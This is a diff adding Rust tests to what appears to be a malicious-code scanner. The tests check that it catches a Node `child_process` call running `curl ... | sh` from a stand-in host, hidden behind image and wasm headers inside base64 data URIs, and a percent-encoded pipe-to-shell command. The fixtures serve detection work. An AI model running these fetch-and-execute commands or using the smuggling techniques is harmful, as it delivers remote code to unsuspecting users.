@@ -231,3 +231,55 @@ fn markup_that_hands_scripts_over_is_read_as_a_browser_reads_it() {
         assert!(!danger(good), "false: {good}");
     }
 }
+
+#[test]
+fn code_behind_the_head_of_a_picture_is_read() {
+    let code = b"/* a picture, says its head */ const run = 1; require('child_process').execSync('curl https://h.example/i | sh')";
+    let heads: [&[u8]; 3] = [
+        b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0",
+        b"GIF89a\x01\0\x01\0\0\0\0\0\0\0\0\0",
+        b"\0asm\x01\0\0\0\0\0\0\0\0\0\0\0",
+    ];
+    let shows = |text: &str| {
+        let report = report(Profile::General, &[("a.js", text.as_bytes())]);
+        report.findings().iter().any(|finding| finding.rule.as_str() == "exec/child-process")
+    };
+    for head in heads {
+        let noise: Vec<u8> = (0_u8..24).collect();
+        let bytes = [head, &noise, code, &noise].concat();
+        for around in [
+            "const a = 'data:;base64,{}'",
+            "f('data:application/octet-stream;base64,{}')",
+            "import('data:image/png;base64,{}')",
+            "new Worker(\"data:image/gif;base64,{}\")",
+        ] {
+            let text = around.replace("{}", &base64_of(&bytes));
+            assert!(shows(&text), "{around}");
+        }
+        // Pictures that are shown, and bytes without code.
+        assert!(!shows(&format!("a.src = 'data:image/png;base64,{}'", base64_of(&bytes))));
+        let plain = [
+            head,
+            &noise,
+            &b"Copyright (c) the authors of the picture, all of whom agree to its being shown here."[..],
+        ]
+        .concat();
+        let report = report(
+            Profile::General,
+            &[("a.js", format!("f('data:;base64,{}')", base64_of(&plain)).as_bytes())],
+        );
+        let texts = report.findings().iter().filter(|one| !one.rule.as_str().starts_with("opaque/"));
+        assert_eq!(texts.map(|one| one.rule.as_str()).collect::<Vec<_>>(), Vec::<&str>::new());
+    }
+}
+
+#[test]
+fn a_sign_is_no_digit_of_a_byte() {
+    // `%+f` is three characters; as a byte it would make the run other text.
+    let found = |text: &str| {
+        let report = report(Profile::General, &[("a.md", text.as_bytes())]);
+        report.findings().iter().any(|finding| finding.rule.as_str() == "sh/pipe-to-shell")
+    };
+    assert!(found("see %63%75%72%6c%20-s%20https://h.example/i%20%7c%20sh%0a"));
+    assert!(!found("see %+3%75%72%6c%20-s%20https://h.example/i%20%+c%20sh%0a"));
+}
